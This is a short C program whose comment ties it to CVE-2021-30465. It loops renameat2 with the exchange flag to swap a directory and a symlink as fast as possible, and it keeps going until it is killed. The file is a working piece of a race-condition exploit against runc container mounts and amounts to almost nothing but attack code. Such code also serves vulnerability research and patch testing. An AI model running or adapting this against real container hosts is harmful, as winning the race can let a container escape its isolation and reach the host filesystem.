/*
 * Swaps two names, a directory and a symlink, as fast as it can, until it is killed (CVE-2021-30465).
 *
 *   swap A B
 */
#include <fcntl.h>
#include <sys/syscall.h>
#include <unistd.h>

enum { EXCHANGE = 2 };

int main(int argc, char **argv)
{
	while (argc > 2)
		syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], EXCHANGE);
	return 2;
}
